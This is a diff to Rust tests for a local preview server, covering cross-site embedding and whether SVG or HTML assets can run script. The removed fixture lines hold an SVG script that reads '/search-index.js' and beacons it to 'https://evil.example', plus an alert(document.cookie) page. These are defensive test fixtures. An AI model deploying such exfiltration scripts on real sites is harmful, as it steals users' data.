@@ -400,7 +400,7 @@ fn another_sites_page_cannot_embed_the_preview() {
         send(
             port,
             &format!(
-                "GET /search-index.js HTTP/1.1\r\nHost: localhost:{port}\r\n\
+                "GET /search.html HTTP/1.1\r\nHost: localhost:{port}\r\n\
                  Sec-Fetch-Site: {site}\r\nSec-Fetch-Mode: {mode}\r\nSec-Fetch-Dest: {dest}"
             ),
         )
@@ -427,15 +427,14 @@ fn another_sites_page_cannot_embed_the_preview() {
 
 #[test]
 fn a_policys_svg_or_html_asset_cannot_run_script_on_the_preview() {
+    // A scripted asset is an `active-asset` error before it is ever served; the sandbox is the
+    // second line, for whatever such a scan could miss, so every HTML and SVG asset gets it.
     let hb = Handbook::fixture("_base");
     hb.write(
         "content/diagram.svg",
-        "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>fetch('/search-index.js').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))</script></svg>",
+        "<svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"1\" y=\"9\">flow</text></svg>",
     );
-    hb.write(
-        "content/note.html",
-        "<script>alert(document.cookie)</script>",
-    );
+    hb.write("content/note.html", "<p>a note</p>");
     let server = serve(&hb, None);
     let port = server.port;
     for (path, kind) in [
@@ -444,7 +443,6 @@ fn a_policys_svg_or_html_asset_cannot_run_script_on_the_preview() {
     ] {
         let r = get(port, path);
         assert_eq!(r.status, 200, "{path}");
-        assert!(r.body.contains("<script>"), "served as it is, {path}");
         assert!(r.header("Content-Type").unwrap().starts_with(kind));
         assert_eq!(
             r.header("Content-Security-Policy"),
